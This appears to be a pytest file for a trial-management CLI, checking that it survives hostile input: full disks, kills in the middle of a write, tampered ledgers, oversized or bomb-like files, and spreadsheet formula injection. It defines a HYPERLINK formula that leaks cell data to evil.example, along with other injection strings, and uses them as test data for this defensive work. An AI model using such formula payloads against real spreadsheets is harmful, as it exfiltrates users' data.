"""Issue 20's probes that no other test runs through the real CLI (the audit of its Done-when).

Each test names its probe. The rest of the issue's probes are covered where the fix lives
(tests/e2e/test_hostile_inputs.py, test_ledger_cli.py, test_ledger_tampering_cli.py,
test_atomic_writes*.py, tests/unit/register/, tests/unit/core/test_inputs.py); the table
of probe → test is the issue's closing note. Strict xfails name a defect still open.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import resource
import signal
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pandas as pd
import pytest
from typer.testing import CliRunner, Result

from trialkit import register
from trialkit._core.spreadsheet import FORMULA_STARTS, neutralise
from trialkit.cli import app
from trialkit.randomise import read_allocation
from trialkit.register.ledger import read as read_ledger

ROOT = Path(__file__).resolve().parents[2]
FLAGSHIP = ROOT / "protocols" / "council_discretionary_budget.yaml"
UNITS = ROOT / "examples" / "council_discretionary_budget" / "units.csv"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
INJECTIONS = ["=1+2", "+SUM(1)", "@SUM(1)", "-2+3", LEAK]
#: What a hostile file may cost before it is refused (issue 20: 5 s and 500 MB).
SECONDS, MEMORY = 5, 500 * 1024 * 1024
runner = CliRunner()


def _ok(args: list[str]) -> Result:
    result = runner.invoke(app, args)
    assert result.exit_code == 0, (result.output, result.exception)
    return result


def _fails(args: list[str], *match: str) -> str:
    result = runner.invoke(app, args)
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert "Traceback" not in result.output
    for text in match:
        assert text in result.output, result.output
    return result.output


def _randomise(workspace: Path, *extra: str, units: Path = UNITS) -> list[str]:
    return [
        "randomise",
        str(FLAGSHIP),
        "--units",
        str(units),
        "--out",
        str(workspace / "allocation.csv"),
        "--ledger",
        str(workspace / "ledger.jsonl"),
        *extra,
    ]


def _bounded(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``trialkit ARGS`` in a new process held to the hostile-file budget: 500 MB more than
    an idle interpreter's address space, and 5 s of CPU (not wall time: the machine is
    shared). The limits' variables are unset, so the defaults are what is tested."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY + 400 * 1024 * 1024,) * 2)

    env = {k: v for k, v in os.environ.items() if not k.startswith("TRIALKIT_MAX_")}
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = subprocess.run(
        [sys.executable, "-m", "trialkit", *args],
        cwd=cwd,
        env=env,
        text=True,
        capture_output=True,
        timeout=SECONDS + 60,
        preexec_fn=cap,
        check=False,
    )
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    assert cpu < SECONDS, f"trialkit {' '.join(args)} took {cpu:.1f} s of CPU"
    return done


def _live_csv_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run as formulas (plain numbers such as -5 are not)."""
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [c for c in cells if c[:1] in FORMULA_STARTS and neutralise(c) != c]


def _hostile_units(path: Path) -> Path:
    """The flagship's units with the injection set as team ids (and the leak as a name)."""
    units = pd.read_csv(UNITS, dtype=str, keep_default_na=False)
    units.loc[: len(INJECTIONS) - 1, "team_id"] = INJECTIONS
    units.loc[: len(INJECTIONS) - 1, "team_name"] = LEAK
    units.to_csv(path, index=False)
    return path


# Data loss: the ledger on a full disk and after a kill ---------------------------------------


@pytest.fixture()
def workspace(tmp_path: Path) -> Path:
    _ok(_randomise(tmp_path))
    return tmp_path


def _full_at_the_ledger(monkeypatch: pytest.MonkeyPatch) -> None:
    """ENOSPC for writes to the ledger only, after part of the line is written."""
    real = os.write

    def write(fd: int, data: Any) -> int:
        if os.readlink(f"/proc/self/fd/{fd}").endswith("ledger.jsonl"):
            real(fd, bytes(data[:10]))
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(fd, data)

    monkeypatch.setattr(os, "write", write)


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="reads /proc/self/fd")
def test_randomise_on_a_full_disk_at_its_ledger_entry_is_exit_2_and_the_ledger_whole(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Probe: on a full disk `randomise` tore the ledger at 4096 bytes and exited 1."""
    ledger = workspace / "ledger.jsonl"
    before = ledger.read_bytes()
    _full_at_the_ledger(monkeypatch)
    _fails(
        _randomise(workspace, "--force", "--seed", "7"),
        "cannot append to the ledger (No space left on device); the ledger is left as it was",
    )
    monkeypatch.undo()
    assert ledger.read_bytes() == before
    assert register.audit(ledger).torn is None


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="reads /proc/self/fd")
def test_randomise_on_a_full_disk_at_its_ledger_entry_leaves_the_previous_allocation(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The allocation's commit waits for its ledger entry: a failed append puts the previous
    allocation back, so `verify` does not call an honest full disk tampering."""
    allocation = workspace / "allocation.csv"
    before = allocation.read_bytes()
    _full_at_the_ledger(monkeypatch)
    runner.invoke(app, _randomise(workspace, "--force", "--seed", "7"))
    monkeypatch.undo()
    verified = runner.invoke(app, ["verify", str(workspace)])
    assert "ALTERED" not in verified.output, verified.output
    assert allocation.read_bytes() == before


_KILLED_MID_APPEND = """
import os, signal, sys
real = os.write
def write(fd, data):
    if os.readlink(f"/proc/self/fd/{fd}").endswith("ledger.jsonl"):
        real(fd, bytes(data[: len(data) // 2]))
        os.kill(os.getpid(), signal.SIGKILL)
    return real(fd, data)
os.write = write
from trialkit.cli import app
app(sys.argv[1:], prog_name="trialkit")
"""


def _kill_mid_append(workspace: Path) -> None:
    args = _randomise(workspace, "--force", "--seed", "7")
    done = subprocess.run(
        [sys.executable, "-c", _KILLED_MID_APPEND, *args],
        capture_output=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == -signal.SIGKILL, done.stderr.decode()[-2000:]


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="reads /proc/self/fd")
def test_a_sigkill_mid_ledger_append_is_a_crash_repaired_by_the_command_it_names(
    workspace: Path,
) -> None:
    """Probe: a kill mid-way through a ledger append left a torn last line that `verify`
    reported as tampering, after which every `--ledger` command failed."""
    ledger = workspace / "ledger.jsonl"
    _kill_mid_append(workspace)
    assert not ledger.read_bytes().endswith(b"\n"), "the kill did not tear the last line"
    crashed = _fails(["verify", str(workspace)], "INCOMPLETE", "this is not tampering")
    assert f"Fix: run `trialkit ledger repair {ledger}`" in crashed
    kept = (workspace / "allocation.csv").read_bytes()
    _fails(_randomise(workspace, "--force", "--seed", "8"), "the last entry is incomplete")
    assert (workspace / "allocation.csv").read_bytes() == kept, "replaced before the refusal"
    _ok(["ledger", "repair", str(ledger)])
    _ok(_randomise(workspace, "--force", "--seed", "7"))  # the interrupted command, re-run
    verified = _ok(["verify", str(workspace)])
    assert "chain intact" in verified.output
    assert [e.action for e in read_ledger(ledger)] == ["randomise", "repair", "randomise"]


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="reads /proc/self/fd")
def test_a_sigkill_mid_ledger_append_is_not_reported_as_altered_files(workspace: Path) -> None:
    """The new allocation the killed step committed is reported as written by the
    interrupted step (UNRECORDED), not as tampering (ALTERED); verify still exits 2."""
    _kill_mid_append(workspace)
    verified = runner.invoke(app, ["verify", str(workspace)])
    assert verified.exit_code == 2
    assert "INCOMPLETE" in verified.output
    assert "ALTERED" not in verified.output, verified.output
    assert re.search(
        r"UNRECORDED allocation\.csv: changed since entry 1 \(randomise\)", verified.output
    ), verified.output


# What the ledger does not guarantee: re-randomising three times after the analysis ------------


def test_three_redraws_after_the_analysis_are_three_findings(workspace: Path) -> None:
    """Probe: re-randomising three times after the analysis went unnoticed by `verify`."""
    results = workspace / "results.json"
    results.write_text("{}\n")
    register.append(workspace / "ledger.jsonl", "analyse", outputs=[results])
    for seed in ("7", "8", "9"):
        _ok(_randomise(workspace, "--force", "--seed", seed))
    output = _fails(["verify", str(workspace)])
    found = re.findall(
        r"FINDING entry (\d) \(randomise\): re-randomised, after the analyse", output
    )
    assert found == ["3", "4", "5"], output


# Tracebacks: a ledger with one bad byte or a wrong-typed field ---------------------------------


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda row: row.replace(b'"randomise"', b'"rand\xffmise"'), "'utf-8' codec can't decode"),
        (lambda row: row.replace(b'"seq": 1', b'"seq": "1"'), "`seq` is not a whole number"),
    ],
    ids=["invalid UTF-8 byte", "wrong-typed field"],
)
def test_verify_locates_a_bad_byte_or_field_in_the_ledger(
    workspace: Path, edit: Any, said: str
) -> None:
    """Probe: one invalid UTF-8 byte or a wrong-typed field in the ledger was a traceback."""
    ledger = workspace / "ledger.jsonl"
    _ok(_randomise(workspace, "--force", "--seed", "7"))
    first, second = ledger.read_bytes().splitlines(keepends=True)
    edited = edit(first)
    assert edited != first
    ledger.write_bytes(edited + second)
    for args in (["verify", str(workspace)], _randomise(workspace, "--force")):
        _fails(args, f"{ledger}, line 1: not a ledger entry (", said, "altered", "Fix: restore")


# Tracebacks and resource exhaustion: --units that is no file, an oversized protocol ------------


def test_randomise_units_at_a_directory_is_a_located_exit_2(tmp_path: Path) -> None:
    """Probe: `--units` pointing at a directory was a traceback."""
    folder = tmp_path / "units"
    folder.mkdir()
    _fails(_randomise(tmp_path, units=folder), f"{folder}: is a directory, not a file")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["units"]


def test_randomise_units_at_dev_zero_is_refused_within_budget(tmp_path: Path) -> None:
    """Probe: `--units /dev/zero` ended in MemoryError."""
    done = _bounded(
        "randomise", str(FLAGSHIP), "--units", "/dev/zero", "--out", "a.csv", cwd=tmp_path
    )
    assert done.returncode == 2 and "device" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr and list(tmp_path.iterdir()) == []


def test_a_53_mib_protocol_is_refused_unread_within_budget(tmp_path: Path) -> None:
    """Probe: a 53 MiB protocol grew past 1.4 GB at 90 s (the default limit, no setting)."""
    path = tmp_path / "big.yaml"
    with path.open("wb") as handle:
        handle.write(FLAGSHIP.read_bytes())
        handle.write((b"# padding " * 100 + b"\n") * (53 * 1024 * 1024 // 1001))
    assert path.stat().st_size > 52 * 1024 * 1024
    done = _bounded("check", str(path), cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert "over the limit of 5 MB" in done.stderr and "TRIALKIT_MAX_PROTOCOL_MB" in done.stderr
    assert "Traceback" not in done.stderr


def _dense_sheet(path: Path, rows: int, columns: int) -> Path:
    """A workbook whose first sheet is ``rows`` identical rows of ``columns`` numbers, with
    no cell references, so it zips about 250:1 (a million rows of 8: 0.5 MB)."""
    book = openpyxl.Workbook()
    book.active.append(["x"])
    book.save(path)
    with zipfile.ZipFile(path) as original:
        parts = {n: original.read(n) for n in original.namelist() if not n.endswith("sheet1.xml")}
    header = b"".join(b'<c t="inlineStr"><is><t>c%d</t></is></c>' % i for i in range(columns))
    row = b"<row>" + b"<c><v>1</v></c>" * columns + b"</row>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as rewritten:
        for name, data in parts.items():
            rewritten.writestr(name, data)
        with rewritten.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                b'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>' + header + b"</row>"
            )
            for _ in range(rows // 10_000):
                sheet.write(row * 10_000)
            sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.mark.slow
def test_a_dense_half_megabyte_workbook_is_refused_within_budget(tmp_path: Path) -> None:
    """Probe: a 2.4 MB xlsx ran 3 min at 6.4 GB, then failed with an empty reason."""
    path = _dense_sheet(tmp_path / "dense.xlsx", 1_000_000, 8)
    assert path.stat().st_size < 1024 * 1024
    script = (
        "import sys\nfrom trialkit.errors import TrialkitError\n"
        "from trialkit.validate.readers import read_table\n"
        f"try:\n    read_table({str(path)!r})\nexcept TrialkitError as e:\n"
        "    print(e); sys.exit(2)\n"
    )

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY + 400 * 1024 * 1024,) * 2)

    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = subprocess.run(
        [sys.executable, "-c", script],
        text=True,
        capture_output=True,
        timeout=120,
        preexec_fn=cap,
        check=False,
    )
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert done.returncode == 2 and "over the limit" in done.stdout, done.stderr[-500:]
    assert "TRIALKIT_MAX_SHEET_CELLS" in done.stdout
    assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime < SECONDS


# Formula injection: the real CLI, injection set in unit ids --------------------------------------


def test_randomise_escapes_hostile_unit_ids_and_reads_them_back(tmp_path: Path) -> None:
    """Probe: unit ids `=1+2`, `+SUM(1)`, `@SUM(1)`, `-2+3` reached allocation.csv raw."""
    units = _hostile_units(tmp_path / "units.csv")
    _ok(_randomise(tmp_path, units=units))
    allocation = tmp_path / "allocation.csv"
    assert _live_csv_cells(allocation) == []
    text = allocation.read_text(encoding="utf-8")
    assert "'=1+2" in text and "'@SUM(1)" in text, "the hostile ids are not in the file"
    assert set(INJECTIONS) <= set(read_allocation(allocation).unit_id)
    _ok(["verify", str(tmp_path)])


# The whole pipeline on hostile ids and labels (slow) -------------------------------------------


def _hostile_protocol(path: Path, *, sample: bool = False) -> Path:
    text = FLAGSHIP.read_text(encoding="utf-8")
    for old, new in [
        ("label: Loneliness (UCLA 3-item scale)", "label: '=1+2 loneliness'"),
        ("label: Clients living in the most deprived fifth of areas", "label: '@SUM(1) deprived'"),
    ]:
        assert old in text
        text = text.replace(old, new, 1)
    if sample:
        text = text.replace("    coverage: all\n", "    coverage: sample\n    sample_size: 20\n")
    path.write_text(text, encoding="utf-8")
    return path


def _data_args(data: Path) -> list[str]:
    return [arg for path in sorted(data.glob("*.csv")) for arg in ("--data", str(path))]


@pytest.fixture(scope="module")
def hostile_pilot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A pilot whose team ids are the injection set and whose labels are formulas."""
    root = tmp_path_factory.mktemp("hostile")
    protocol = _hostile_protocol(root / "protocol.yaml")
    units = _hostile_units(root / "units.csv")
    ledger = ["--ledger", str(root / "ledger.jsonl")]
    _ok(["register", str(protocol), "--out", str(root / "registration")])
    _ok(["randomise", str(protocol), "--units", str(units), "--out", str(root / "allocation.csv")])
    data = root / "data"
    args = ["simulate", str(protocol), "--units", str(units), "--allocation"]
    _ok([*args, str(root / "allocation.csv"), "--out", str(data)])
    _ok(
        [
            "analyse",
            str(protocol),
            "--allocation",
            str(root / "allocation.csv"),
            *_data_args(data),
            "--registration",
            str(root / "registration"),
            "--out",
            str(root / "results"),
            "--no-bayes",
            *ledger,
        ]
    )
    _ok(["report", str(root / "results"), "--format", "xlsx", "--out", str(root / "r.xlsx")])
    return root


@pytest.mark.slow
def test_no_csv_or_xlsx_the_pipeline_writes_holds_a_live_formula(
    hostile_pilot: Path, tmp_path: Path
) -> None:
    """Probe: injection-set ids, data values and protocol labels reached allocation.csv,
    issues.csv, results/subgroups.csv (and the xlsx) raw."""
    root = hostile_pilot
    # validate --report: a data value from the injection set becomes an issue's value
    team = pd.read_csv(root / "data" / "team.csv", dtype=str, keep_default_na=False)
    team.loc[6, "caseload"] = LEAK
    bad = tmp_path / "data"
    bad.mkdir()
    for path in (root / "data").iterdir():  # the CSVs and simulate's record of them
        (bad / path.name).write_bytes(path.read_bytes())
    team.to_csv(bad / "team.csv", index=False)
    issues = tmp_path / "issues.csv"
    protocol = str(root / "protocol.yaml")
    allocation = str(root / "allocation.csv")
    args = ["validate", protocol, "--allocation", allocation, *_data_args(bad)]
    _fails([*args, "--report", str(issues)], 'team.csv, row 8, column "caseload"')
    # audit-sample: injection-set spend ids
    spends = pd.read_csv(root / "data" / "spend.csv", dtype=str, keep_default_na=False)
    spends.loc[: len(INJECTIONS) - 1, "spend_id"] = INJECTIONS
    spends.to_csv(tmp_path / "spend.csv", index=False)
    sampled = _hostile_protocol(tmp_path / "sampled.yaml", sample=True)
    sample = tmp_path / "audit_sample.csv"
    audit = ["audit-sample", str(sampled), "--data", str(tmp_path / "spend.csv")]
    _ok([*audit, "--out", str(sample), "--seed", "1"])

    written = [
        root / "allocation.csv",
        issues,
        sample,
        *sorted((root / "results").glob("*.csv")),
    ]
    assert len(written) >= 8
    for path in written:
        assert _live_csv_cells(path) == [], path.name
    with issues.open(newline="", encoding="utf-8") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    assert "'" + LEAK in values, "the hostile value is not in issues.csv"
    assert "'@SUM(1) deprived" in (root / "results" / "subgroups.csv").read_text("utf-8")
    saved = json.loads((root / "results" / "results.json").read_text("utf-8"))
    assert "@SUM(1) deprived" in json.dumps(saved), "the JSON lost the original label"
    with zipfile.ZipFile(root / "r.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(book.read(n) for n in book.namelist() if n.endswith(".xml"))
    assert sheets and b"<f>" not in xml and b"<f " not in xml, "a formula cell in the workbook"
    assert b"@SUM(1) deprived" in xml, "the label is not in the workbook"


@pytest.mark.slow
def test_simulate_data_csvs_hold_no_live_formula(hostile_pilot: Path) -> None:
    """simulate escapes its CSVs' cells and says so in its record, so validate (which the
    pipeline above ran on these files) reads the original ids back."""
    live = {p.name: _live_csv_cells(p) for p in sorted((hostile_pilot / "data").glob("*.csv"))}
    assert live and all(cells == [] for cells in live.values()), {k: v[:3] for k, v in live.items()}
    record = json.loads((hostile_pilot / "data" / "simulated.json").read_text(encoding="utf-8"))
    assert record["escaping"] == "owasp-leading-quote" and set(live) <= set(record["files"])


@pytest.mark.slow
@pytest.mark.parametrize(
    "command", ["register", "randomise", "validate", "audit-sample", "analyse", "report"]
)
def test_every_ledger_command_refuses_a_torn_ledger_before_writing(
    hostile_pilot: Path, tmp_path: Path, command: str
) -> None:
    """Probe: after a torn last line every `--ledger` command failed (now: each refuses
    before any work, naming the repair command), and a `--force` re-run replaced its output
    before discovering the ledger was unreadable."""
    root = hostile_pilot
    ledger = tmp_path / "ledger.jsonl"
    ledger.write_bytes((root / "ledger.jsonl").read_bytes() + b'{"seq": 9, "act')
    before = ledger.read_bytes()
    protocol, data = str(root / "protocol.yaml"), _data_args(root / "data")
    allocation = ["--allocation", str(root / "allocation.csv")]
    out = tmp_path / "out"
    args = {
        "register": ["register", protocol, "--out", str(out)],
        "randomise": ["randomise", protocol, "--units", str(root / "units.csv"), "--out"],
        "validate": ["validate", protocol, *allocation, *data, "--report", str(out)],
        "audit-sample": ["audit-sample", str(tmp_path / "s.yaml")],
        "analyse": ["analyse", protocol, *allocation, *data, "--no-bayes", "--out", str(out)],
        "report": ["report", str(root / "results"), "--out", str(out)],
    }[command]
    if command == "randomise":
        args.append(str(out))
    if command == "audit-sample":
        _hostile_protocol(tmp_path / "s.yaml", sample=True)
        args += ["--data", str(root / "data" / "spend.csv"), "--out", str(out)]
    _fails(
        [*args, "--ledger", str(ledger)],
        "the last entry is incomplete",
        "this is not tampering",
        f"Fix: run `trialkit ledger repair {ledger}`",
    )
    assert ledger.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["ledger.jsonl", *(["s.yaml"] if command == "audit-sample" else [])]
    ), "an output was written before the ledger was read"


# Tracebacks on the analyse path (slow: each needs valid data) ---------------------------------


def _analyse(root: Path, data: Path, out: Path, *extra: str) -> list[str]:
    return [
        "analyse",
        str(root / "protocol.yaml"),
        "--allocation",
        str(root / "allocation.csv"),
        *_data_args(data),
        "--out",
        str(out),
        "--no-bayes",
        *extra,
    ]


def _copy_data(root: Path, into: Path) -> Path:
    into.mkdir()
    for path in (root / "data").glob("*.csv"):
        (into / path.name).write_bytes(path.read_bytes())
    return into


@pytest.mark.slow
def test_analyse_with_a_truncated_registration_is_a_located_exit_2(
    hostile_pilot: Path, tmp_path: Path
) -> None:
    """Probe: a truncated registration.json was a traceback."""
    registration = tmp_path / "registration"
    registration.mkdir()
    for path in (hostile_pilot / "registration").iterdir():
        if path.is_file():
            (registration / path.name).write_bytes(path.read_bytes())
    record = registration / "registration.json"
    record.write_bytes(record.read_bytes()[:25])
    out = tmp_path / "results"
    _fails(
        _analyse(hostile_pilot, hostile_pilot / "data", out, "--registration", str(registration)),
        "registration.json, line 2: not valid JSON; the file was cut short",
        "Fix:",
    )
    assert not out.exists()


@pytest.mark.slow
def test_analyse_with_age_1e308_is_located_by_validation(
    hostile_pilot: Path, tmp_path: Path
) -> None:
    """Probe: `age=1e308` passed `validate` and crashed `analyse`."""
    data = _copy_data(hostile_pilot, tmp_path / "data")
    clients = pd.read_csv(data / "client.csv", dtype=str, keep_default_na=False)
    clients.loc[3, "age"] = "1e308"
    clients.to_csv(data / "client.csv", index=False)
    out = tmp_path / "results"
    _fails(
        _analyse(hostile_pilot, data, out),
        'client.csv, row 5, column "age": `1e+308` is not a finite number',
    )
    assert not out.exists()


@pytest.mark.slow
def test_validate_names_a_utf16_data_file_s_encoding(hostile_pilot: Path, tmp_path: Path) -> None:
    """Probe: a UTF-16 CSV was reported as "cannot tell which level", not by its encoding."""
    data = _copy_data(hostile_pilot, tmp_path / "data")
    team = data / "team.csv"
    team.write_bytes(team.read_text(encoding="utf-8").encode("utf-16"))
    args = ["validate", str(hostile_pilot / "protocol.yaml")]
    output = _fails(
        [*args, "--allocation", str(hostile_pilot / "allocation.csv"), *_data_args(data)],
        "team.csv",
        "UTF-16",
        "Fix: save it again as 'CSV UTF-8'",
    )
    assert "which level" not in output
